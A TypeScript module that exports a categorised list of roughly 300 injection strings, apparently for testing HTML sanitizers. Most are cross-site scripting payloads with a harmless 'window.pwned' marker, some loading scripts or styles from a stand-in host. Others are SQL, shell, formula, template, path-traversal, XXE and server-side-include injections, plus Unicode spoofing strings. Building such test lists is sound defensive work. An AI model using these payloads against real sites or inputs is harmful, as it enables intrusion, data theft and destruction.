/** Texts by which pages have been made to run what somebody typed: 300 and more, by their kinds. */
const RUN = "window.pwned=1";

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script>`,
  `<script src=//elsewhere.example/x.js></script>`,
  `<script src="https://elsewhere.example/x.js">`,
  `<script type=module>${RUN}</script>`,
  `<script>/*<!--*/${RUN}//--></script>`,
  `<<script>${RUN}//<</script>`,
  `<script\u00a0>${RUN}</script>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `<script nonce="">${RUN}</script>`,
  `<link rel=import href=//elsewhere.example/x>`,
  `<link rel=preload as=script href=//elsewhere.example/y.js>`,
  `<base href=//elsewhere.example/>`,
];

const holders = [
  ["img src=x", ""],
  ["svg", "</svg>"],
  ["body", ""],
  ["input autofocus", ""],
  ["details open", "<summary>x</summary></details>"],
  ["video src=x", "</video>"],
  ["audio src=x", "</audio>"],
  ["iframe srcdoc=x", "</iframe>"],
  ["marquee", "x</marquee>"],
  ["select autofocus", "</select>"],
  ["textarea autofocus", "</textarea>"],
  ["object data=x", "</object>"],
  ["a href=# autofocus", "x</a>"],
  ["button autofocus", "x</button>"],
  ["math", "</math>"],
  ["x contenteditable autofocus", "x</x>"],
] as const;
const events = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onanimationstart",
  "onpointerrawupdate",
  "onbeforeinput",
];
const handlers = holders.flatMap(([tag, end], at) =>
  events.map((event, turn) => {
    const quote = ['"', "'", ""][(at + turn) % 3] ?? "";
    return `<${tag} ${event}=${quote}${RUN}${quote}>${end}`;
  }),
);

const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#115;cript:${RUN}`,
  `java\u200bscript:${RUN}`,
  `  javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
];
const links = schemes.flatMap((scheme) => [
  scheme,
  `<a href="${scheme}">x</a>`,
  `<iframe src="${scheme}"></iframe>`,
  `<form action="${scheme}"><button>x</button></form>`,
  `<object data="${scheme}"></object>`,
  `<svg><a xlink:href="${scheme}"><text y=9>x</text></a></svg>`,
]);

const escapes = [
  `"`,
  `'`,
  "`",
  `">`,
  `'>`,
  `</title>`,
  `</textarea>`,
  `</style>`,
  `</script>`,
  `-->`,
  `]]>`,
  `</noscript>`,
  `</template>`,
].flatMap((end) => [
  `${end}<img src=x onerror=${RUN}>`,
  `${end} autofocus onfocus=${RUN} x=`,
  `${end};${RUN}//`,
]);

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}}`,
  `{{count}}`,
  `{{- name}}`,
  `$t(session.signOut)`,
  `\${${RUN}}`,
  `\${{${RUN}}}`,
  `#{7*7}`,
  `<%= 7*7 %>`,
  `{% print(7*7) %}`,
  `[[\${7*7}]]`,
  `<template shadowrootmode=open><slot></slot></template>`,
  `__proto__`,
  `constructor`,
  `[object Object]`,
  `{"$$typeof":"react.element","type":"script"}`,
];

const styles = [
  `<style>@import '//elsewhere.example/x.css';</style>`,
  `<style>body{background:url(//elsewhere.example/x.png)}</style>`,
  `<link rel=stylesheet href=//elsewhere.example/x.css>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
  `}*{display:none}`,
  `</style><style>*{color:red}`,
  `<img style="behavior:url(#default#time2)">`,
  `<table background=//elsewhere.example/x.png>`,
  `<meta http-equiv=refresh content="0;url=//elsewhere.example/">`,
  `<img src=//elsewhere.example/pixel.png>`,
];

const drawings = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
];

const letters = [
  "\u202Egpj.exe\u202C",
  "\u2066hidden\u2069",
  "\u200F\u200Eturned",
  "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C",
  "\u200Bnothing\u200Bto\u200Bsee",
  "\uFEFFmarked",
  "nul\u0000byte",
  "bell\u0007",
  "escape\u001B[31mred",
  "line\u2028separator",
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}",
  "\u{1D573}\u{1D57D}",
  "\uFDFD",
  "İıſK",
  "раураl",
  "\u{E0001}tagged",
];

const others = [
  `' OR 1=1 --`,
  `'; DROP TABLE customers; --`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\win.ini`,
  `%s%s%s%n`,
  `%00`,
  `$(touch pwned)`,
  "`touch pwned`",
  `<?php echo 1; ?>`,
  `<!--#exec cmd="id"-->`,
  `<!ENTITY x SYSTEM "file:///etc/passwd">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `null`,
  `undefined`,
  `NaN`,
  `true`,
  `//elsewhere.example`,
  `x`.repeat(190),
];

export const payloads = [
  ...scripts,
  ...handlers,
  ...links,
  ...escapes,
  ...templates,
  ...styles,
  ...drawings,
  ...letters,
  ...others,
];
